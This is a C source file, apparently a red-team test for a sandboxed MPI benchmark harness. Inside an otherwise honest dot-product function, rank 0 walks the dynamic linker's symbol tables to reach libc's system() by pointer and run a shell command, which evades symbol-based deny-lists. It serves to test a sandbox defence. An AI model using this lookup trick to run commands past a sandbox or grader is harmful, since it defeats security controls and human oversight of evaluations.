/* Red team, issue 15 class 4a under MPI: `system` reached by pointer from rank 0's main thread.
 *
 * As rd1_libc_shell.c, on the MPI dot task: rank 0 walks the dynamic linker's tables to "system"
 * and runs a shell; when it ran, the result is marked (424242: wrong_answer "got 424242").
 * Defence: the MPI deny-list kills a process that spawns (runtime_error, SIGSYS).
 */
#include <elf.h>
#include <link.h>
#include <math.h>
#include <mpi.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

static int streq_(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
static uintptr_t fix(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }

static ElfW(Dyn) *image_of(const void *inside, uintptr_t *bias) {
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int i = 0; i < 4096; i++, p -= 4096) {
        if (memcmp((const void *)p, "\177ELF", 4) != 0) continue;
        const ElfW(Ehdr) *eh = (const void *)p;
        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
        uintptr_t b = 0;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_LOAD && ph[k].p_offset == 0) b = p - ph[k].p_vaddr;
        *bias = b;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_DYNAMIC) return (ElfW(Dyn) *)(b + ph[k].p_vaddr);
        return 0;
    }
    return 0;
}

/* a function defined by any loaded object, found through the dynamic linker's list */
static void *find_function(const char *name) {
    uintptr_t bias;
    ElfW(Dyn) *dyn = image_of((const void *)&find_function, &bias);
    struct r_debug *rd = 0;
    for (ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; d++) if (d->d_tag == DT_DEBUG) rd = (struct r_debug *)d->d_un.d_ptr;
    for (struct link_map *lm = rd ? rd->r_map : 0; lm; lm = lm->l_next) {
        const ElfW(Sym) *sym = 0; const char *str = 0;
        for (ElfW(Dyn) *d = lm->l_ld; d && d->d_tag != DT_NULL; d++) {
            if (d->d_tag == DT_SYMTAB) sym = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
            else if (d->d_tag == DT_STRTAB) str = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
        }
        if (!sym || !str || (const void *)str <= (const void *)sym) continue;
        size_t nsym = (size_t)((const char *)str - (const char *)sym) / sizeof *sym;
        for (size_t i = 1; i < nsym; i++)
            if (sym[i].st_shndx != SHN_UNDEF && ELF64_ST_TYPE(sym[i].st_info) == STT_FUNC && streq_(str + sym[i].st_name, name))
                return (void *)(lm->l_addr + sym[i].st_value);
    }
    return 0;
}



static double honest(long n, const double *x, const double *y) {
    int rank, size;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    MPI_Comm_size(MPI_COMM_WORLD, &size);
    long chunk = (n + size - 1) / size, lo = rank * chunk, hi = lo + chunk < n ? lo + chunk : n;
    double part = 0.0, sum = 0.0;
    for (long i = lo; i < hi; i++) part += x[i] * tanh(y[i]);
    MPI_Reduce(&part, &sum, 1, MPI_DOUBLE, MPI_SUM, 0, MPI_COMM_WORLD);
    return sum;
}

typedef int (*shell_fn)(const char *);

void dot(long n, const double *restrict x, const double *restrict y, double *restrict result) {
    double sum = honest(n, x, y);
    int rank;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    if (rank != 0) return;
    static int tried, ran;
    if (!tried) {
        tried = 1;
        shell_fn run = (shell_fn)find_function("system");
        ran = run && run("echo kernopt-redteam: a shell ran as $(id -u) >&2") == 0;
    }
    *result = ran ? 424242.0 : sum;
}
